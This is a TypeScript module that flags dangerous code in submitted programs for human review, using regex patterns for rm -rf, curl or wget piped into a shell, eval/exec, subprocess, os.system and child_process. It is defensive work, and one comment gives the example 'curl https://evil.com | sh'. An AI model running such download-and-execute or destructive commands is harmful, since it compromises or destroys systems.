import { clipMatched, deepFreeze } from './policy-rule.js';

/**
 * Dangerous code patterns: code containing any of them is CRITICAL (reference design,
 * "Dangerous Code Pattern Detection").
 *
 * Stance: this is a tripwire for a person's attention, not a sandbox. It is searched over
 * the whole program text (strings and comments included, any language), case-insensitively,
 * and it prefers false positives: `model.eval()`, `regex.exec(s)`, or a comment mentioning
 * `subprocess` all make a program CRITICAL. Names are matched as whole words, so an
 * identifier that merely contains one (`subprocess_count`, `my_eval`, `execution_time`)
 * does not, because the module or builtin can only be reached through its exact name.
 * Obfuscation (string concatenation, aliases such as `import os as o; o.system(...)`) is
 * out of reach of any pattern list; gVisor is the boundary, this is not.
 *
 * Performance: programs may be 1 MiB, so every regex is linear: no nested quantifiers, and
 * patterns with two parts ("curl ... | sh", "rm ... -r ... -f") are not one regex with a
 * `.*` gap (which backtracks quadratically over a long line full of `curl`) but a `regex`
 * followed by `followedBy` regexes searched once in the rest of the same command.
 */
export interface DangerousPattern {
  /** Stable name, for logs and tests. Several entries may share one name. */
  readonly name: string;
  /** Where the pattern starts. Searched case-insensitively anywhere in the code. */
  readonly regex: RegExp;
  /** Regexes that must all be found (in any order) after `regex`, within the same command. */
  readonly followedBy?: readonly RegExp[];
  /** Ends the command `followedBy` searches. Default: a line break. */
  readonly until?: RegExp;
}

export interface DangerousMatch {
  name: string;
  /** The matched text, trimmed, at most 200 characters. */
  matched: string;
}

/** Shells and interpreters that run what is piped into them. */
const INTERPRETER = String.raw`(?:/(?:usr/)?(?:local/)?bin/)?(?:env\s+)?(?:(?:ba|da|z|k|c|tc|fi|a)?sh|python[\d.]{0,5}|node|perl|ruby|php)\b`;

/** Modules whose functions run another program (posix and nt are what os wraps). */
const OS_MODULE = String.raw`(?:os|posix|nt)`;

/** Their functions that run another program. */
const OS_RUNNERS = String.raw`(?:system|popen[234]?|exec[lv]p?e?|spawn[lv]p?e?|posix_spawnp?)`;

/** A line break that ends a shell command: not continued with a backslash, not right after a pipe. */
const COMMAND_LINE_END = /(?<![\\|][ \t]*)\n/;

/** Ends an `rm` command: a new line or a shell/Python separator. */
const RM_COMMAND_END = /[\n;&|)`]/;

export const DANGEROUS_PATTERNS: readonly DangerousPattern[] = deepFreeze([
  {
    // rm -rf, rm -fr, rm -Rf, rm -r -f, rm --recursive --force, ['rm', '-rf', '/'].
    name: 'rm_rf',
    regex: /\brm\b/,
    followedBy: [/[\s'"](?:-[a-z]*r|--recursive\b)/, /[\s'"](?:-[a-z]*f|--force\b)/],
    until: RM_COMMAND_END,
  },
  {
    // curl https://evil.com | sh (also | bash, | sudo bash, | python3, continued lines).
    name: 'curl_pipe_shell',
    regex: /\bcurl\b/,
    followedBy: [new RegExp(String.raw`\|\s*(?:sudo\s+(?:-\w+\s+)?)?` + INTERPRETER)],
    until: COMMAND_LINE_END,
  },
  {
    name: 'wget_pipe_shell',
    regex: /\bwget\b/,
    followedBy: [new RegExp(String.raw`\|\s*(?:sudo\s+(?:-\w+\s+)?)?` + INTERPRETER)],
    until: COMMAND_LINE_END,
  },
  {
    // bash <(curl ...), sh -c "$(wget -qO- ...)": the same download-and-run without a pipe.
    name: 'shell_download_substitution',
    regex: /\b(?:(?:ba|da|z|k)?sh|source)\s+(?:-c\s+)?(?:["']\s*)?(?:<\s*\(|\$\(|`)\s*(?:curl|wget)\b/,
  },
  { name: 'eval_call', regex: /\beval\s*(?:\?\.\s*)?\(/ },
  { name: 'exec_call', regex: /\bexec\s*(?:\?\.\s*)?\(/ },
  { name: 'dunder_import', regex: /__import__/ },
  { name: 'builtins_access', regex: /__builtins__/ },
  { name: 'subprocess', regex: /\bsubprocess\b/ },
  {
    name: 'os_system',
    regex: new RegExp(String.raw`\b` + OS_MODULE + String.raw`\s*\.\s*` + OS_RUNNERS + String.raw`\b`),
  },
  {
    // getattr(os, 'system'), getattr(os,"popen"), and getattr(os, name) with a computed name.
    name: 'os_system',
    regex: new RegExp(
      String.raw`\bgetattr\s*\(\s*` +
        OS_MODULE +
        String.raw`\s*,\s*(?:[rbuf]{0,2}['"]` +
        OS_RUNNERS +
        String.raw`['"]|[^\s'"])`,
    ),
  },
  {
    // from os import system / from os import (path, popen)
    name: 'os_system',
    regex: new RegExp(String.raw`\bfrom\s+` + OS_MODULE + String.raw`\s+import\b`),
    followedBy: [new RegExp(String.raw`\b` + OS_RUNNERS + String.raw`\b`)],
    until: /[\n;]/,
  },
  {
    name: 'os_system',
    regex: new RegExp(String.raw`\bfrom\s+` + OS_MODULE + String.raw`\s+import\s*\(`),
    followedBy: [new RegExp(String.raw`\b` + OS_RUNNERS + String.raw`\b`)],
    until: /\)/,
  },
  { name: 'importlib', regex: /\bimportlib\b/ },
  // require('child_process'), require("node:child_process"), import { exec } from 'child_process'.
  { name: 'child_process', regex: /\bchild_process\b/ },
  { name: 'new_function', regex: /\bnew\s+Function\s*\(/ },
  {
    // Shell `eval "$cmd"`: the word eval, blanks, then an argument (not `eval = 1`, `eval: bool`).
    name: 'shell_eval',
    regex: /\beval[ \t]+[^\s=:,)\]}]/,
  },
] satisfies DangerousPattern[]);

/**
 * The dangerous pattern that starts earliest in the code (on a tie, the first in
 * DANGEROUS_PATTERNS), or null. Earliest, so an approver sees the first dangerous thing
 * the program does, whatever order the list is in.
 */
export function findDangerousPattern(code: string): DangerousMatch | null {
  let best: { name: string; index: number; text: string } | null = null;
  for (const pattern of DANGEROUS_PATTERNS) {
    const found = matchPattern(pattern, code);
    if (found !== null && (best === null || found.index < best.index)) best = { name: pattern.name, ...found };
  }
  return best === null ? null : { name: best.name, matched: clipMatched(best.text) };
}

/** Fresh case-insensitive global copies: the shared RegExp objects are never stateful. */
function searcher(regex: RegExp): RegExp {
  return new RegExp(regex.source, 'gi');
}

/** The rest of a word after a match (`-rf` + `v`), so the matched text shows whole flags. */
const WORD_REST = /[\w-]*/y;

function matchPattern(pattern: DangerousPattern, code: string): { index: number; text: string } | null {
  const head = searcher(pattern.regex);
  if (!pattern.followedBy || pattern.followedBy.length === 0) {
    const m = head.exec(code);
    return m ? { index: m.index, text: m[0] } : null;
  }
  const tails = pattern.followedBy.map(searcher);
  const until = searcher(pattern.until ?? /\n/);
  let m: RegExpExecArray | null;
  while ((m = head.exec(code)) !== null) {
    const start = m.index;
    const from = start + m[0].length;
    until.lastIndex = from;
    const stop = until.exec(code);
    const end = stop ? stop.index : code.length;
    const rest = code.slice(from, end);
    let last = -1;
    for (const tail of tails) {
      tail.lastIndex = 0;
      const t = tail.exec(rest);
      if (!t) {
        last = -1;
        break;
      }
      last = Math.max(last, t.index + t[0].length);
    }
    if (last >= 0) {
      WORD_REST.lastIndex = last;
      WORD_REST.exec(rest);
      return { index: start, text: code.slice(start, from + WORD_REST.lastIndex) };
    }
    // Any later start inside this command sees only a suffix of it, so it cannot match
    // either: skip to the command's end, which keeps the whole search linear.
    head.lastIndex = Math.max(end, from);
  }
  return null;
}
